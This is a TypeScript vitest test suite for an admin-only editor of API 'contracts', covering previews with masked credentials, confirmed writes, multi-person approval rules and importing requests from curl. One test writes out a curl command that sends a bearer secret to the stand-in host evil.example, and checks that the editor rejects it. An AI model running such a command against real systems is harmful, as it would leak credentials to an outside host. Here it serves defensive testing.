import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import express from "express";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createAnswerMapper, listActions } from "../../src/actions/index.ts";
import { answerApproval, demandsMetBy, listApprovals } from "../../src/approvals/index.ts";
import { createExecution, listActivity } from "../../src/execution/index.ts";
import type { Integration } from "../../src/integrations/index.ts";
import { bumpCatalogueVersion } from "../../src/people/index.ts";
import { makeRule } from "../../src/policy/index.ts";
import { errorPages } from "../../src/web/http/error-pages.tsx";
import { createRenderer } from "../../src/web/http/render.tsx";
import { contractRoutes } from "../../src/web/routes/contract-routes.tsx";
import { signInRoutes } from "../../src/web/routes/sign-in-routes.tsx";
import { createGate } from "../../src/web/routes/visitor.ts";
import type { WebDeps } from "../../src/web/web-deps.ts";
import { json, type RecordingApi, recordingApi } from "../support/recording-api.ts";
import { silentLogger } from "../support/silent-logger.ts";
import { action, connectApi, type Ground, newTeam, openGround, type Team } from "../support/team.ts";

const SECRET = "s3cr3t-9f8e7d6c5b4a";
const mapper = createAnswerMapper();
let ground: Ground;
let team: Team;
let api: RecordingApi;
let integration: Integration;
let origin: string;
const cookies = new Map<string, string>();
const closing: (() => Promise<unknown>)[] = [];

beforeAll(async () => {
  ground = await openGround();
  team = await newTeam(ground);
  api = await recordingApi(
    (request, response) => json(response, { method: request.method, items: [{ id: 1 }, { id: 2 }] }),
    (close) => closing.push(close),
  );
  integration = await connectApi(ground, team, {
    name: "Orders",
    baseUrl: `${api.origin}/v1`,
    actions: [action("get-order", "GET", "/orders/{{id}}")],
  });
  const { db, vault, egress, clock } = ground;
  const app = express();
  const server = createServer(app);
  await once(server.listen(0, "127.0.0.1"), "listening");
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const logger = silentLogger();
  const execution = createExecution({
    db,
    vault,
    egress,
    clock,
    mapper,
    approvalTtlMs: 3_600_000,
    scrub: String,
    cardUrl: String,
  });
  const deps = {
    db,
    vault,
    egress,
    clock,
    logger,
    mapper,
    execution,
    publicUrl: origin,
    providers: [],
    slack: { local: undefined },
    renderer: createRenderer({ assetBase: "/assets" }),
  } as unknown as WebDeps;
  const gate = createGate(deps);
  const { notFound, failed } = errorPages(deps);
  app.use(signInRoutes(deps, gate), contractRoutes(deps, gate), notFound, failed);
  for (const member of [team.ada, team.bob]) {
    const signedIn = await fetch(await gate.makeLink(origin, member), { redirect: "manual" });
    cookies.set(member.id, (signedIn.headers.get("set-cookie") ?? "").split(";")[0] ?? "");
  }
  closing.push(
    () => new Promise((done) => server.close(done).closeAllConnections()),
    () => mapper.close(),
    () => ground.close(),
  );
});
afterAll(async () => {
  for (const close of closing) await close();
});

type Fields = Record<string, string | readonly string[]>;

/** What the editor's form holds for a POST with one input in the path and one in the body. */
const REFUND: Fields = {
  name: "refund-order",
  description: "Gives money back",
  method: "POST",
  path: "/orders/{{order_id}}/refunds",
  body_kind: "json",
  body: '{"amount": {{amount}}}',
  effect: "write",
  input_name: ["order_id", "amount"],
  input_type: ["string", "number"],
  input_required: ["required", "required"],
  input_default: ["", ""],
  input_values: ["", ""],
  input_description: ["", ""],
  input_path_use: ["segment", "segment"],
  input_sample: ["A-7", "2.5"],
  mapping_kind: "none",
};

async function post(path: string, fields: Fields, member = team.ada) {
  const body = new URLSearchParams();
  for (const [name, values] of Object.entries(fields))
    for (const value of typeof values === "string" ? [values] : values) body.append(name, value);
  const response = await fetch(`${origin}/integrations/${integration.id}/contracts${path}`, {
    method: "POST",
    redirect: "manual",
    headers: { cookie: cookies.get(member.id) ?? "", "hx-request": "true" },
    body,
  });
  return { status: response.status, to: response.headers.get("hx-redirect"), html: await response.text() };
}

const get = async (path: string, member = team.ada) =>
  fetch(`${origin}/integrations/${integration.id}/contracts${path}`, {
    headers: { cookie: cookies.get(member.id) ?? "" },
    redirect: "manual",
  });

/** What the button that confirms a request sends with the form. */
function confirmIn(html: string): Record<string, string> {
  const attribute = /hx-vals="([^"]*confirm[^"]*)"/.exec(html)?.[1] ?? "{}";
  return JSON.parse(attribute.replaceAll("&quot;", '"'));
}

const declared = async () =>
  (await listActions(ground.db, team.workspace.id, integration.id)).filter(
    ({ source }) => source === "contract",
  );
const trials = async () =>
  (
    await listActivity(
      ground.db,
      { workspaceId: team.workspace.id, integrationId: integration.id },
      { limit: 20 },
    )
  ).calls.filter(({ title }) => title.endsWith("(test)"));

describe("C5: the editor of contracts", () => {
  it("is for admins", async () => {
    expect((await get("/new", team.bob)).status).toBe(403);
    for (const path of ["", "/preview", "/form", "/curl", "/try", "/act_1", "/act_1/remove"])
      expect((await post(path, REFUND, team.bob)).status).toBe(403);
    expect(await declared()).toEqual([]);
  });

  it("shows faults at their fields, and loses nothing that was typed", async () => {
    const { status, html } = await post("", {
      ...REFUND,
      name: "Refund <Order>",
      path: "/orders/{{order_id}}/../{{nobody}}",
      query_name: ["", "q"],
      query_value: ["", "typed & kept"],
      expression: "kept[*].too",
    });
    expect(status).toBe(422);
    expect(html).toContain("such as refund-order");
    expect(html).toContain("{{nobody}} is not an input");
    expect(html).toContain("Refund &lt;Order&gt;");
    expect(html).toContain("typed &amp; kept");
    expect(html).toContain("kept[*].too");
    expect(html).toMatch(/id="name" aria-describedby="name-hint" aria-invalid="true"/);
    expect(await declared()).toEqual([]);
  });

  it("previews exactly what would be sent, with dots for the credential, and sends nothing", async () => {
    const before = api.requests.length;
    const { html } = await post("/preview", {
      ...REFUND,
      sample_response: '{"items":[{"id":1}]}',
      mapping_kind: "fields",
      field_name: "n",
      field_path: "items[*].id",
    });
    expect(html).toContain(`${api.origin}/v1/orders/A-7/refunds`);
    expect(html).toContain("authorization: Bearer •••");
    expect(html).toContain("&quot;amount&quot;: 2.5");
    expect(html).toContain("&quot;n&quot;: 1");
    expect(api.requests).toHaveLength(before);
  });

  it("says beside the sample what is wrong with it", async () => {
    const { status, html } = await post("/try", { ...REFUND, input_sample: ["A-7", "much"] });
    expect(status).toBe(422);
    expect(html).toContain("amount must be a number");
    expect(html).toContain('id="input-1-sample"');
  });

  it("tests a read at once, as a call of that admin, with the answer as it came", async () => {
    const read = {
      ...REFUND,
      name: "",
      method: "GET",
      effect: "read",
      body_kind: "none",
      path: "/orders/{{order_id}}/{{amount}}",
    };
    const { status, html } = await post("/try", read);
    expect(status).toBe(200);
    expect(html).toContain("It answered");
    expect(html).toContain("&quot;items&quot;");
    expect(api.requests.at(-1)?.url).toBe("/v1/orders/A-7/2.5");
    expect(await trials()).toMatchObject([
      { title: "unnamed (test)", memberId: team.ada.id, state: "settled" },
    ]);
  });

  it("sends a write only after a yes to exactly that request, once, and keeps the yes on record", async () => {
    const before = api.requests.length;
    const shown = await post("/try", REFUND);
    expect(shown.html).toContain("Send exactly this");
    expect(shown.html).toContain(`${api.origin}/v1/orders/A-7/refunds`);
    expect(api.requests).toHaveLength(before);
    const vals = confirmIn(shown.html);
    // Another request than the one that was shown is shown again, and not sent.
    const other = await post("/try", { ...REFUND, ...vals, input_sample: ["A-8", "2.5"] });
    expect(other.html).toContain("What would be sent has changed");
    expect(api.requests).toHaveLength(before);
    const sent = await post("/try", { ...REFUND, ...vals });
    expect(sent.html).toContain("It answered");
    expect(api.requests).toHaveLength(before + 1);
    // The same yes does not send it a second time.
    await post("/try", { ...REFUND, ...vals });
    expect(api.requests).toHaveLength(before + 1);
    const call = (await trials()).find(({ title }) => title.startsWith("refund-order"));
    expect(call).toMatchObject({
      title: "refund-order (test)",
      memberId: team.ada.id,
      approvedBy: team.ada.id,
      effect: "write",
    });
    const [approval] = await listApprovals(ground.db, { workspaceId: team.workspace.id, limit: 1 });
    expect(approval).toMatchObject({ state: "approved", callId: call?.id });
  });

  it("saves, changes and removes", async () => {
    expect((await post("", REFUND)).to).toBe(`/integrations/${integration.id}?q=refund-order#actions`);
    const [stored] = await declared();
    expect(stored).toMatchObject({ name: "refund-order", method: "POST", effect: "write", version: 1 });
    const page = await (await get(`/${stored?.id}`)).text();
    expect(page).toContain('value="/orders/{{order_id}}/refunds"');
    const changed = await post(`/${stored?.id}`, {
      ...REFUND,
      requires_confirmation: "on",
      calls_per_minute: "3",
      idempotency_header: "X-Refund-Key",
    });
    expect(changed.status).toBe(204);
    expect((await declared())[0]).toMatchObject({
      requiresConfirmation: true,
      callsPerMinute: 3,
      idempotencyHeader: "X-Refund-Key",
      version: 2,
    });
    expect(await (await get(`/${stored?.id}`)).text()).toContain('value="X-Refund-Key"');
    const wrong = await post(`/${stored?.id}`, { ...REFUND, idempotency_header: "Cookie" });
    expect(wrong.html).toContain("such as Idempotency-Key");
    expect((await post("", REFUND)).html).toContain("has an action of that name");
    expect((await post(`/${stored?.id}/remove`, {})).status).toBe(204);
    expect(await declared()).toEqual([]);
    expect((await get(`/${stored?.id}`)).status).toBe(404);
  });

  it("copies an imported operation", async () => {
    const [imported] = await listActions(ground.db, team.workspace.id, integration.id);
    const page = await (await get(`/new?from=${imported?.id}`)).text();
    expect(page).toContain('value="get-order-2"');
    expect(page).toContain('value="/orders/{{id}}"');
    expect((await get(`/${imported?.id}`)).status).toBe(404);
  });

  it("fills the form from curl; the secret in it is told, not shown, and not stored unless the admin says so", async () => {
    const curl = `curl '${api.origin}/v1/orders/7?state=open' -H 'Authorization: Bearer ${SECRET}'`;
    const versionNow = async () =>
      (
        await ground.vault.describeCredential(ground.db, {
          workspaceId: team.workspace.id,
          integrationId: integration.id,
        })
      )?.version;
    const before = await versionNow();
    const left = await post("/curl", { ...REFUND, curl });
    expect(left.html).toContain('value="/orders/7"');
    expect(left.html).toContain("Left out, because it is secret: a bearer token");
    expect(left.html).toContain('value="refund-order"');
    expect(left.html).not.toContain(SECRET);
    expect(await versionNow()).toBe(before);
    const used = await post("/curl", { ...REFUND, curl, use_credential: "on" });
    expect(used.html).toContain("Into the vault, as the credential of Orders");
    expect(used.html).not.toContain(SECRET);
    expect(await versionNow()).toBe((before ?? 0) + 1);
    const elsewhere = await post("/curl", { ...REFUND, curl: `curl https://evil.example/x -u a:${SECRET}` });
    expect(elsewhere.status).toBe(422);
    expect(elsewhere.html).toContain("not below this integration&#39;s base URL");
    expect(elsewhere.html).not.toContain(SECRET);
    const taken = await post("/form", { ...REFUND, path: "/orders/1042", take: "path.2" });
    expect(taken.html).toContain('value="/orders/{{order_id_2}}"');
    expect(taken.html).toContain('value="1042"');
  });
});

describe("C5: a test that the rules want somebody else to approve as well", () => {
  it("waits with its request shown, and is sent by the same button once that yes is there", async () => {
    const { db, clock } = ground;
    const workspaceId = team.workspace.id;
    const needsBob = { admins: false, requester: false, members: [team.bob.id] };
    const draft = {
      predicate: { methods: ["POST"] },
      effect: { kind: "ask", approvers: { ...needsBob, also: [{ admins: true, requester: true }] } },
      described: "Bob and an admin approve every POST",
      words: null,
    } as const;
    const change = { workspaceId, by: { id: team.ada.id, isAdmin: true, workspaceId }, now: clock() };
    await db.transaction(async (tx) => {
      await makeRule(tx, draft, change);
      await bumpCatalogueVersion(tx, workspaceId);
    });
    const before = api.requests.length;
    const two = { ...REFUND, name: "two-people" };
    const vals = confirmIn((await post("/try", two)).html);
    const waiting = await post("/try", { ...two, ...vals });
    expect(waiting.html).toContain("the rules want somebody else&#39;s as well");
    expect(confirmIn(waiting.html)).toEqual(vals);
    expect(api.requests).toHaveLength(before);
    const [asked] = await listApprovals(db, { workspaceId, state: "pending", limit: 1 });
    const counts = asked ? demandsMetBy(asked, { ...team.bob, groupIds: [] }) : [];
    const yes = {
      approvalId: asked?.id ?? "",
      workspaceId,
      by: team.bob.id,
      verdict: "approved" as const,
      counts,
    };
    expect((await db.transaction((tx) => answerApproval(tx, yes, clock())))?.state).toBe("approved");
    expect((await post("/try", { ...two, ...vals })).html).toContain("It answered");
    expect(api.requests).toHaveLength(before + 1);
  });
});
